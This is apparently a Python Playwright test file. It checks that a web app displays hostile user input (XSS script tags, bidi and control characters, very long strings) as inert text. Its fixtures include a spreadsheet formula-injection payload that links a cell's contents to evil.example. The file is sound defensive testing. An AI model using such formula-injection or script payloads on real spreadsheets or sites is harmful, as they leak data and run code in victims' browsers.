"""Whatever somebody writes into any field is shown as text: it runs nowhere, hides nothing and breaks no page."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from playwright.sync_api import expect
from tests.web.pages.conftest import BIDI, HOSTILE, serve
from tests.web.team import make_local

from counterclaim.model import Verdict
from counterclaim.pipeline.desk import open_desk

LONG = "x" * 5000
CONTROL = "\x07\x1b[31m\x7f\u200b\ufeff"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
WORDS = f"{HOSTILE} {FORMULA} {BIDI} {CONTROL} {LONG}"
HIDDEN = set("\u202e\u2067\u2066\u2069\u202c\x07\x1b\x7f")


@pytest.fixture(scope="module")
def written(ledger: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """A ledger in which every field that a person can write holds the worst, and the pages that show them."""
    folder = tmp_path_factory.mktemp("hostile") / "own"
    shutil.copytree(ledger.parent, folder)
    with open_desk(folder / ledger.name) as desk:
        events = [row.id for row in desk.events().items]
        said = [v for i in events for v in desk.event(i).statements]
        corrected = next(v.statement for v in said if v.statement.property == "perpetrator")
        changes = {"value": WORDS, "speaker": WORDS}
        desk.judge(Verdict.CORRECT, corrected.id, reason=WORDS, by=WORDS[:200], changes=changes)
        document = said[0].document.id
        added = {"quote": said[0].statement.passage.quote, "property": "evidence", "act": "claims", "value": WORDS,
                 "speaker": WORDS}  # fmt: skip
        made = desk.judge(Verdict.ADD, document, reason=WORDS, by="kit", changes=added)
        paths = ["/queue", "/activity", f"/activity/{made.digest}", "/actors", "/timeline", "/search?q=bridge"]
        paths += [f"/documents/{document}", f"/statements/{corrected.id}", *(f"/events/{i}" for i in events)]
    return folder / ledger.name, paths


@pytest.fixture(scope="module")
def hostile_site(written):
    yield from serve(lambda port: make_local(written[0], port=port))


def test_no_page_runs_loads_or_hides_what_was_written(written, hostile_site, watch):
    seen = watch(hostile_site, viewport={"width": 360, "height": 720})
    page = seen.page
    shown = 0
    for path in written[1]:
        page.goto(path)
        assert page.title().endswith("counterclaim"), path
        assert page.locator("main img, main script, main iframe, main object, main a[href^='http']").count() == 0, path
        text = page.locator("main").inner_text()
        assert not HIDDEN & set(text), path
        assert not seen.too_wide(), path
        shown += "<script>document.title='run'</script>" in text
    assert shown >= 4


def test_what_is_typed_comes_back_as_text(hostile_site, watch):
    page = watch(hostile_site).page
    for path, field in (("/search", "#q"), ("/actors", "#q"), ("/timeline", "#f-text"), ("/map", "#f-place")):
        page.goto(path)
        page.locator(field).fill(HOSTILE)
        page.keyboard.press("Enter")
        page.wait_for_url("**=%3Cscript%3E**")
        expect(page.locator(field)).to_have_value(HOSTILE)
        assert page.title().endswith("counterclaim")
        assert page.locator("main img, main script").count() == 0
